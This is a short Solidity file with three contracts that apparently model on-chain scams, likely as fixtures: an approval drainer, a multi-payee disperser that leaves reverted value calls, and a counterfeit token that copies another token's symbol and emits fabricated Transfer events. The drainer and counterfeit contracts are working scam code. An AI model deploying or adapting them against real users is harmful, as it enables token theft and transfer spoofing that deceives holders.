// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {Tokens} from "Tokens.sol";

// What a victim is talked into approving: its operator then takes what was approved.
contract Drainer {
    address public immutable operator;

    constructor() {
        operator = msg.sender;
    }

    function take(address token, address victim, address to, uint256 amount) external {
        require(msg.sender == operator, "not the operator");
        Tokens.take(token, victim, to, amount);
    }
}

// Pays many in one transaction. A receiver that refuses is passed over and what is left goes back, so that a
// transaction holds calls with value that were undone.
contract Disperser {
    function pay(address payable[] calldata to, uint256[] calldata amounts) external payable {
        for (uint256 i = 0; i < to.length; i++) {
            (bool done,) = to[i].call{value: amounts[i]}("");
            done;
        }
        if (address(this).balance > 0) {
            (bool back,) = msg.sender.call{value: address(this).balance}("");
            require(back, "the rest was refused");
        }
    }
}

// A token that calls itself by another's symbol and logs whatever it is told to.
contract Counterfeit {
    string public name;
    string public symbol;
    uint8 public constant decimals = 6;
    mapping(address => uint256) public balanceOf;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(string memory n, string memory s) {
        (name, symbol) = (n, s);
    }

    function pretend(address[] calldata from, address[] calldata to, uint256[] calldata values) external {
        for (uint256 i = 0; i < from.length; i++) {
            balanceOf[to[i]] += values[i];
            emit Transfer(from[i], to[i], values[i]);
        }
    }
}
